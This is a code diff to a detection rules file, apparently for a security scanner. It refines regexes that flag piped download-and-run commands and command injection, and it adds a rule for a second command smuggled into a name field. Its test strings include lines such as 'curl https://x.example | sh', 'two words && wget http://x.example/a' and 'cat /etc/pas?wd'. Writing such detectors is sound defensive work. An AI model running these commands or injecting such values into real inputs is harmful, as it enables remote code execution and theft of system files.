@@ -177,7 +177,7 @@ RULES: Final[tuple[Rule, ...]] = (
         r"|\d{1,3}\.\d|\$|[\w-]{1,30}\.[\w.-]{2,30}(?:/\S{0,60})?$)"
         r"|ping6?\s{1,4}-[a-z]\s{0,2}\d|uname\s{1,4}-[a-z]|rm\s{1,4}-[rf]{1,2}\s{1,4}[~/*]"
         r"|chmod\s{1,4}(?:[0-7]{3,4}|[ugoa]?\+[rwxs])\s{1,4}\S|(?:ifconfig|systeminfo|whoami)\s{0,2}(?:$|[|&;]))"
-        r"\S{0,60}(?:\s{1,2}[^\sa-z]\S{0,40}){0,5}(?:\s{0,2}|\s{0,2}\|.{1,20})$|"
+        r"\S{0,60}(?:\s{1,2}[^\sa-z]\S{0,40}){0,5}(?:\s{0,2}|\s{0,2}\|\s{0,2}\S{1,16}(?:\s{1,2}-\S{0,8}){0,2}\s{0,2})$|"
         + LAUNCHED
         + r"(?:(?:ba|z|k|da|c)?sh\s{1,4}-[ci]\b|python[23]?\s{1,4}-c\s{1,4}(?:import|exec|eval|__)"
         r"|cd\s{1,4}[/.~]\S{0,40}\s?[;&|])\S{0,60}(?:\s{1,2}\S{1,40}){0,5}\s{0,2}$",
@@ -237,7 +237,8 @@ RULES: Final[tuple[Rule, ...]] = (
         level=1,
         pattern=r"\bbase64 (?:-d|--decode|-di)\b[^|\n]{0,30}\|\s{0,4}(?:sudo )?(?:\w{0,3}sh|python\d?|perl)\b"
         r"|\becho [\w+/=]{8,100}\s{0,2}\|\s{0,2}(?:base64|xxd|rev)\b"
-        r"|(?:^|[;&|`(]\s{0,4})(?:curl|wget)\s[^|\n]{1,100}\|\s{0,4}(?:sudo )?(?:\w{0,3}sh|python\d?|perl|php|ruby)\b",
+        r"|(?:^|[;&|]|\$\(|(?:^|[^\s(])`)\s{0,4}(?:curl|wget)\s[^|\n]{1,100}\|\s{0,4}(?:sudo )?"
+        r"(?:\w{0,3}sh|python\d?|perl|php|ruby)\s{0,2}(?:$|-|[;&|`)#'\"<>\n])",
         needs=("base64 -", "echo", "curl", "wget"),
         why="What was downloaded or encoded is run.",
         positives=(
@@ -250,6 +251,8 @@ RULES: Final[tuple[Rule, ...]] = (
             "base64 -d file",
             "to install it you may run curl https://x.example | sh",
             "To install: curl https://x.example -s | sh",
+            "Install it with `curl -sL https://x.example/i.sh | sh` or by hand",
+            "curl -s https://x.example | sh installs it",
         ),
         views=("shell",),
         places=(*VALUES, "user_agent"),
@@ -288,6 +291,26 @@ RULES: Final[tuple[Rule, ...]] = (
         why="Wild cards stand for letters, so that filters see neither a command nor a file.",
         positives=("/???/c?t /x", "/b?n/l?", "cat /etc/pas?wd", "/[b-b]in/c[a-b]t", "/e*c/p*d"),
         negatives=("what/??/that", "src/*/test", "https://x.example/a?b/c?d", "/etc/ and more?"),
+    ),
+    Rule(
+        id="AG-RCE-017",
+        attack="rce",
+        score=5,
+        level=1,
+        pattern=r"^[\w.,@()-]{1,40}(?:\s[\w.,@()-]{1,40}){1,3}\s{0,4}(?:[;\n]|&{1,2}|\|{1,2}|\$\()\s{0,4}"
+        + FOLDER
+        + r"(?:cat|tac|nl|head|tail|more|less|od|xxd|strings|ls|rm|cp|mv|wget|curl|fetch|nc|chmod)\s{1,4}"
+        r"(?:-{1,2}[\w-]{1,16}\s{1,4}(?:\d{1,9}\s{1,4})?){0,3}(?:~?/[^\s.]|(?:ht|f)tps?://)\S{0,80}\s{0,2}$",
+        needs=(" /", " ~/", "://"),
+        why="A command on a file or an address ends a value that is a name with blanks in it.",
+        positives=(
+            "my file.txt; cat /etc/hosts",
+            "two words && wget http://x.example/a",
+            "a b c | tail -n 3 /etc/group",
+        ),
+        negatives=("I wrote this; cat /proc/cpuinfo shows it", "one two; cats /x", "see it here; ls /tmp and more"),
+        views=("shell",),
+        places=_FIELDS,
     ),
     Rule(
         id="AG-RCE-013",
